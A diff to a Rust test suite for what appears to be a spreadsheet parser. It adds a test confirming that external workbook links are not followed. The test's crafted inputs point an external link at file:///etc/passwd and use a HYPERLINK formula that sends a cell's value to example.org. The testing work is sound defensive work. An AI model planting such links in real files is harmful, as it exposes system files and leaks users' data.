@@ -200,6 +200,42 @@ fn damage_is_survived() {
     }
 }
 
+/// The value that was saved with it is all that is read: the other file is never looked for.
+#[test]
+fn a_link_to_another_file_is_not_followed() {
+    let rows = r#"<row r="1"><c r="A1"><f>[1]Secrets!A1</f><v>5</v></c><c r="B1" t="str"><f>HYPERLINK("http://example.org/?"&amp;A1,"look")</f><v>look</v></c></row>"#;
+    let workbook_part = WORKBOOK.replace(
+        "</workbook>",
+        r#"<externalReferences><externalReference r:id="x1"/></externalReferences></workbook>"#,
+    );
+    let relations = SHEETS.replace("</Relationships>", r#"<Relationship Id="x1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>"#);
+    let file = made(
+        rows,
+        &[
+            ("xl/workbook.xml", &workbook_part),
+            ("xl/_rels/workbook.xml.rels", &relations),
+        ],
+    );
+    let with_link = with_part(
+        &file,
+        "xl/externalLinks/_rels/externalLink1.xml.rels",
+        r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>"#,
+    );
+    let sheets = workbook(&with_link, &Limits::USUAL).unwrap();
+    assert_eq!(
+        sheets[0].rows[0].cells,
+        [(0, number("5", false)), (1, Cell::Text("look".to_owned()))]
+    );
+}
+
+/// The same file with one part more.
+fn with_part(file: &[u8], name: &str, text: &str) -> Vec<u8> {
+    let mut out = ZipWriter::new_append(Cursor::new(file.to_vec())).unwrap();
+    out.start_file(name, SimpleFileOptions::default()).unwrap();
+    out.write_all(text.as_bytes()).unwrap();
+    out.finish().unwrap().into_inner()
+}
+
 #[test]
 fn hidden_rows_are_marked() {
     let rows = r#"<row r="1"><c r="A1"><v>1</v></c></row><row r="2" hidden="1"><c r="A2"><v>2</v></c></row><row hidden="true"><c><v>3</v></c></row><row r="9" hidden="0"><c r="A9"><v>9</v></c></row>"#;
